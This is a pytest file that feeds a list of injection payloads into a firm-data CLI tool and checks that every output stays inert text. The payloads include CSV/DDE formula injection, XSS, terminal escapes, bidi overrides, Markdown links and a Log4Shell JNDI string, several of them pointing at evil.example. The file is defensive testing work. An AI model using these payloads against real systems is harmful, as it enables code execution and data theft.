"""What users typed stays text: no formula, link, markup, terminal escape or Rich tag comes of it, anywhere.

One file carries a specimen of every attack in every place that takes text; each output and each message is then
looked at by a reader of its own kind: an HTML parser, a CSV reader, openpyxl, a search for escape codes.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tests.files.books import saved
from tests.runs import run

#: Each attack carries a name of its own, so that it is seen to have arrived.
ATTACKS = [
    "=cmd|'/C calc'!A1 攻01",
    '=HYPERLINK("http://evil.example","攻02")',
    "+1+攻03",
    "-1+攻04",
    "@SUM(1)攻05",
    "\t=1+攻06",
    "＝1+攻07",
    "[red]攻08[/red]",
    "[link=http://evil.example]攻09[/link]",
    "[/]攻10[bold",
    "\x1b[31m攻11\x1b[0m",
    "\x1b]8;;http://evil.example\x07攻12\x1b]8;;\x07",
    "\x9b31m攻13",
    "攻14\r覆盖",
    "攻15\b\b\b\x7f",
    "<script>alert('攻16')</script>",
    "<img src=x onerror=alert(1)>攻17",
    '"><b>攻18',
    "&lt;b&gt;攻19",
    "[攻20](http://evil.example)",
    "![攻21](http://evil.example/x.png)",
    "](http://evil.example) 攻22",
    "攻23 | 一 | 二 |",
    "`攻24` **粗** _斜_ ~~删~~",
    "攻25\n# 标题\n- 列表",
    "\u202e攻26\u202c",
    "\u2066攻27\u2069",
    "攻28\u200b\ufeff\u2028下一行",
    "{攻29} %s {0} {name}",
    "攻30 http://evil.example www.evil.example a@evil.example",
    "_x0041_攻31",
    "'攻32",
    '攻33, "引" ; 号',
    "${jndi:ldap://evil.example/攻34}",
    "攻35 &amp; :smile: :warning:",
]
MARKS = [re.search(r"攻\d\d", attack)[0] for attack in ATTACKS]  # type: ignore[index]
#: What must never reach a terminal, a page or a sheet: controls, and what reverses the reading order.
ACTIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def quoted(text: str) -> str:
    """A TOML string."""
    return json.dumps(text).replace("\x7f", "\\u007f")


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A firm for each attack, which names the firm, its event's note, and stands in an unknown key."""
    path = tmp_path_factory.mktemp("attacked") / "firms.toml"
    parts = [
        f'[[firm]]\nname = {quoted(attack)}\nabove_scale = true\nfiscal_year = 2022\n{quoted(attack)} = "x"\n'
        f'[[firm.event]]\nkind = "regional-key-lab"\ndate = 2022-03-01\nnote = {quoted("注" + attack)}\n'
        for attack in ATTACKS
    ]
    path.write_text("\n".join(parts), "utf-8")
    return path


@pytest.fixture(scope="module")
def outputs(attacked: Path) -> dict[str, bytes]:
    """Every answer to the attacked file, by its format."""
    folder = attacked.parent
    found: dict[str, bytes] = {}
    for name in ("table", "json", "csv", "markdown", "html"):
        ran = run("calc", attacked, "--format", name, "--on", "2026-11-23")
        assert ran.code == 0, ran.err
        found[name], found["stderr"] = ran.stdout, ran.stderr
    for name in ("table", "json", "markdown"):
        found[f"explain {name}"] = run("explain", attacked, "--format", name).stdout
    assert run("calc", attacked, "-o", folder / "out.xlsx").code == 0
    found["xlsx"] = (folder / "out.xlsx").read_bytes()
    return found


def test_every_attack_arrives_in_every_output(outputs: dict[str, bytes]) -> None:
    for name, output in outputs.items():
        if name not in ("xlsx", "stderr"):
            assert [mark for mark in MARKS if mark not in output.decode()] == [], name


@pytest.mark.parametrize(
    "name", ["table", "csv", "markdown", "html", "json", "stderr", "explain table", "explain json", "explain markdown"]
)
def test_no_output_carries_a_code_that_acts(outputs: dict[str, bytes], name: str) -> None:
    text = outputs[name].decode().removeprefix("\ufeff")
    assert [hex(ord(each)) for each in ACTIVE.findall(text)] == []
    assert "\ufeff" not in text
    assert {unicodedata.category(each) for each in text} & {"Cs"} == set()


def test_stderr_names_the_first_attacks_and_counts_the_others(outputs: dict[str, bytes]) -> None:
    said = outputs["stderr"].decode()
    assert [mark for mark in MARKS[:20] if mark not in said] == []


def test_the_terminal_shows_brackets_as_they_were_typed(outputs: dict[str, bytes]) -> None:
    for name in ("table", "explain table"):
        shown = re.sub(r"\s+", "", outputs[name].decode())
        for typed in (
            "[red]攻08[/red]",
            "[link=http://evil.example]攻09[/link]",
            "[/]攻10[bold",
            ":smile:",
            "{攻29}%s{0}",
        ):
            assert typed in shown, (name, typed)


def test_no_cell_of_csv_begins_a_formula(outputs: dict[str, bytes]) -> None:
    rows = list(csv.reader(io.StringIO(outputs["csv"].decode("utf-8-sig"), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=cmd") for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "＝", "＋", "＠"))] == []
    assert [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)] == []


class Tags(HTMLParser):
    """The tags, attributes and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def test_no_tag_attribute_or_link_of_the_page_comes_from_a_user(outputs: dict[str, bytes]) -> None:
    page = Tags(outputs["html"].decode())
    assert page.tags & {"img", "b", "a", "iframe", "link", "object"} == set()
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", outputs["html"].decode(), re.DOTALL)
    assert [each for each in scripts if "攻" in each] == []  # ours sorts a table
    values = [value for name, value in page.attributes if "攻" in value or "evil" in value or name.startswith("on")]
    assert values == []
    assert "<script>alert('攻16')</script>" in page.text
    assert "&lt;b&gt;攻19" in page.text


@pytest.mark.parametrize("name", ["markdown", "explain markdown"])
def test_no_markup_of_markdown_comes_from_a_user(outputs: dict[str, bytes], name: str) -> None:
    text = outputs[name].decode()
    for line in text.splitlines():
        if "攻" not in line:
            continue
        bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", line)
        assert re.search(r"\]\(|!\[|<[a-zA-Z/!]|`|~~|(?<!\*)\*(?!\*)|https?://|www\.|&\w+;", bare) is None, line
        assert "@" not in bare
    for row in re.findall(r"^\|.*攻.*\|$", text, re.MULTILINE):
        inside = re.sub(r"\\\|", "", row)
        above = text[: text.index(row)].splitlines()
        head = next(line for line in reversed(above) if re.match(r"^\|[\s:|-]+\|$", line))
        assert inside.count("|") == head.count("|"), row
    assert not re.search(r"^#+ 标题|^- 列表", text, re.MULTILINE)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(outputs: dict[str, bytes]) -> None:
    book = load_workbook(io.BytesIO(outputs["xlsx"]))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert ACTIVE.search(cell.value) is None
                    if cell.value.startswith(("=", "+", "@")):
                        assert cell.quotePrefix
    assert [mark for mark in MARKS if not any(mark in text for text in texts)] == []


def test_json_carries_names_as_they_were_typed(outputs: dict[str, bytes]) -> None:
    names = [each["firm"]["name"] for each in json.loads(outputs["json"])["firms"]]
    for typed, given in zip(ATTACKS, names, strict=True):
        assert given == " ".join(typed.split()) or ACTIVE.search(typed) or "\u200b" in typed, (typed, given)


def bad(folder: Path, ending: str) -> list[Path]:
    """Files in which every attack is a value that cannot be read, or a heading nobody knows, or a sheet's name."""
    paths = []
    if ending == "toml":
        text = "".join(
            f"[[firm]]\nname = {quoted('甲' + attack)}\nrevenue = {quoted(attack)}\nabove_scale = {quoted(attack)}\n"
            f"{quoted(attack)} = 1\n[[firm.event]]\nkind = {quoted(attack)}\n"
            for attack in ATTACKS
        )
        (folder / "bad.toml").write_text(text, "utf-8")
        paths.append(folder / "bad.toml")
    if ending == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["单位名称", "营业收入（万元）", *ATTACKS])
        writer.writerows([["甲" + attack, attack, *ATTACKS] for attack in ATTACKS])
        (folder / "bad.csv").write_text(out.getvalue(), "utf-8", newline="")
        paths.append(folder / "bad.csv")
    if ending == "xlsx":
        book = Workbook()
        sheet = book.worksheets[0]
        sheet.title = "=1+1 [red]攻08"[:31].replace("[", "(").replace("]", ")")
        clean = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", each) for each in ATTACKS]
        for row in (["单位名称", "营业收入（万元）", *clean], *(["甲" + each, each] for each in clean)):
            sheet.append(row)
        for row_ in sheet.iter_rows():
            for cell in row_:
                cell.data_type = "s" if cell.value else cell.data_type
        (folder / "bad.xlsx").write_bytes(saved(book))
        paths.append(folder / "bad.xlsx")
    return paths


@pytest.mark.parametrize("ending", ["toml", "csv", "xlsx"])
def test_messages_show_what_was_typed_and_obey_nothing_of_it(tmp_path: Path, ending: str) -> None:
    (path,) = bad(tmp_path, ending)
    for arguments in (["check"], ["calc"], ["check", "--lang", "en"]):
        ran = run(*arguments, path)
        assert ran.code == 1
        assert [hex(ord(each)) for each in ACTIVE.findall(ran.err)] == []
        shown = re.sub(r"\s+", "", ran.err)
        assert [mark for mark in MARKS if mark not in shown] == []
        assert "[red]攻08[/red]" in shown
        assert "{攻29}%s{0}{name}" in shown


def test_names_of_files_act_on_nothing(tmp_path: Path) -> None:
    names = [attack.replace("/", "／")[:60] + ".toml" for attack in ATTACKS]
    for name in names:
        (tmp_path / name).write_text('[firm]\nname = "甲"\n"色" = "红"\n', "utf-8")
    ran = run("check", *(f"./{name}" for name in names), *(f"./{name}x" for name in names), cwd=tmp_path)
    assert ran.code == 1
    for text in (ran.out, ran.err):
        assert [hex(ord(each)) for each in ACTIVE.findall(text)] == []
        assert [mark for mark in MARKS if mark not in text] == []


@pytest.mark.parametrize(
    "typed",
    [
        ["calc", "f", "--year"],
        ["calc", "f", "--format"],
        ["clauses", "--policies"],
        ["explain", "f", "f", "--lang", "en"],
    ],
)
def test_words_of_the_command_line_act_on_nothing(typed: list[str]) -> None:
    word = "".join(attack for attack in ATTACKS if "\x00" not in attack)
    ran = run(*typed, word)
    assert ran.code in (1, 2)
    assert [hex(ord(each)) for each in ACTIVE.findall(ran.err)] == []
    assert "[red]攻08[/red]" in ran.err
